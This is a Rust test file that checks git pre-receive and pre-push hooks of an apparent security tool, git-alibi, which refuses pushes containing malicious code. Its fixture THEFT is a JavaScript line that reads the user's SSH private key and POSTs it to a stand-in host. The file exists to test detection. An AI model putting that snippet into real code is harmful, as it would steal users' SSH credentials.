//! Tests of the hooks in `examples/ci` with pushes between local repositories. They need the `git` program.

#![allow(clippy::unwrap_used)] // test helpers are not marked as tests
#![allow(clippy::print_stderr)] // skipped tests print a message
#![cfg(unix)]

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Output};
use tempfile::TempDir;

const CLEAN: &str = "start();\n";
const THEFT: &str = "const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\nconst req = https.request({ host: 'collect.example.org', method: 'POST' });\nreq.end(key);\n";

fn git(folder: &Path, words: &[&str]) -> Output {
    Command::new("git")
        .current_dir(folder)
        .args(["-c", "user.name=Ben Example", "-c", "user.email=ben@example.org", "-c", "init.defaultBranch=main"])
        .args(words)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env(
            "PATH",
            format!(
                "{}:{}",
                Path::new(env!("CARGO_BIN_EXE_git-alibi")).parent().unwrap().display(),
                std::env::var("PATH").unwrap()
            ),
        )
        .output()
        .unwrap()
}

fn must_succeed(folder: &Path, words: &[&str]) {
    let out = git(folder, words);
    assert!(out.status.success(), "{words:?}: {}", String::from_utf8_lossy(&out.stderr));
}

fn commit(folder: &Path, file: &str, text: &str) {
    std::fs::write(folder.join(file), text).unwrap();
    must_succeed(folder, &["add", "."]);
    must_succeed(folder, &["commit", "--quiet", "--message", file]);
}

/// Creates a server and a clone that has pushed a clean commit, and installs a hook in one of them.
fn server(hook: &str, name: &str, in_clone: bool) -> Option<(TempDir, std::path::PathBuf)> {
    if Command::new("git").arg("--version").output().is_err() {
        assert!(std::env::var_os("CI").is_none(), "git is not installed, but CI must test the hooks");
        eprintln!("\n*** NOT RUN: git is not installed, so the hooks were not tested ***\n");
        return None;
    }
    let folder = tempfile::tempdir().unwrap();
    must_succeed(folder.path(), &["init", "--quiet", "--bare", "server.git"]);
    must_succeed(folder.path(), &["init", "--quiet", "work"]);
    let work = folder.path().join("work");
    must_succeed(&work, &["remote", "add", "origin", "../server.git"]);
    let hooks = if in_clone { work.join(".git/hooks") } else { folder.path().join("server.git/hooks") };
    std::fs::create_dir_all(&hooks).unwrap();
    let file = hooks.join(name);
    std::fs::copy(Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/ci").join(hook), &file).unwrap();
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o755)).unwrap();
    commit(&work, "app.js", CLEAN);
    must_succeed(&work, &["push", "--quiet", "origin", "main"]);
    Some((folder, work))
}

fn must_fail(work: &Path, words: &[&str]) -> String {
    let out = git(work, words);
    let message = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(!out.status.success(), "{words:?} succeeded: {message}");
    message
}

#[test]
fn pre_receive_accepts_clean_pushes_and_rejects_malicious_ones() {
    let Some((folder, work)) = server("pre-receive", "pre-receive", false) else { return };
    commit(&work, "b.js", "more();\n");
    must_succeed(&work, &["push", "--quiet", "origin", "main"]);
    must_succeed(&work, &["switch", "--quiet", "--create", "idea"]);
    commit(&work, "c.js", "idea();\n");
    must_succeed(&work, &["push", "--quiet", "origin", "idea"]);
    commit(&work, "report.js", THEFT);
    let message = must_fail(&work, &["push", "--quiet", "origin", "idea"]);
    for part in ["report.js:1", "credential-read-egress", "refused"] {
        assert!(message.contains(part), "{part} is missing: {message}");
    }
    // The commits are also pushed as a new branch, and by force.
    assert!(must_fail(&work, &["push", "--quiet", "origin", "idea:other"]).contains("report.js:1"));
    must_succeed(&work, &["commit", "--quiet", "--amend", "--message", "Again"]);
    assert!(must_fail(&work, &["push", "--quiet", "--force", "origin", "idea"]).contains("report.js:1"));
    must_succeed(&work, &["push", "--quiet", "origin", "--delete", "idea"]);
    let heads = git(&folder.path().join("server.git"), &["for-each-ref", "--format=%(refname)"]);
    assert_eq!(String::from_utf8_lossy(&heads.stdout), "refs/heads/main\n", "the rejected branches do not exist");
    let log = git(&folder.path().join("server.git"), &["log", "--format=%s", "main"]);
    assert_eq!(String::from_utf8_lossy(&log.stdout), "b.js\napp.js\n");
}

#[test]
fn pre_receive_rejects_self_suppressed_findings() {
    let Some((_folder, work)) = server("pre-receive", "pre-receive", false) else { return };
    commit(&work, "report.js", &format!("// git-alibi: ignore[credential-read-egress] fine\n{THEFT}"));
    assert!(must_fail(&work, &["push", "--quiet", "origin", "main"]).contains("cannot suppress its own findings"));
}

#[test]
fn pre_receive_checks_unrelated_histories_in_full() {
    let Some((_folder, work)) = server("pre-receive", "pre-receive", false) else { return };
    must_succeed(&work, &["switch", "--quiet", "--orphan", "fresh"]);
    commit(&work, "report.js", THEFT);
    let message = must_fail(&work, &["push", "--quiet", "origin", "fresh"]);
    assert!(message.contains("nothing in common") && message.contains("report.js:1"), "{message}");
}

#[test]
fn pre_push_blocks_a_malicious_commit() {
    let Some((_folder, work)) = server("pre-push.sh", "pre-push", true) else { return };
    commit(&work, "report.js", THEFT);
    let out = git(&work, &["push", "origin", "main"]);
    assert!(!out.status.success());
    let output = String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
    assert!(output.contains("report.js:1"), "{output}");
}
